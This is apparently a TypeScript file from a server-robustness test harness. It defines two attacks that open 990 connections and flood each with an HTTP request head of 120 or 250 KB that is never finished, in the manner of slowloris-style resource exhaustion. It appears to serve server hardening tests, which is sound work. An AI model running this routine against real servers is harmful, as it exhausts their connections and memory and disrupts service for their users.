import type { Attack, Target } from '../attack.ts';
import { openMany, sleep } from '../hostile.ts';

const CONNECTIONS = 990;

export const unfinishedHeads: Attack = {
  name: 'unfinished-heads',
  what: '990 connections, each with 250 KB of a head that never ends',
  run: (target) => sendHeads(target, 250),
};

export const allowedHeads: Attack = {
  name: 'allowed-heads',
  what: '990 connections, each with 120 KB of a head that never ends: no more than one may have',
  run: (target) => sendHeads(target, 120),
};

/** @param fields of 1 kB each */
async function sendHeads(target: Target, fields: number): Promise<void> {
  const sockets = await openMany(target, CONNECTIONS);
  const head = Array.from({ length: fields }, (_, i) => `X-${i}: ${'x'.repeat(990)}\r\n`).join('');
  for (const socket of sockets) socket.write(`GET / HTTP/1.1\r\nHost: x\r\n${head}`);
  await sleep(10_000);
}
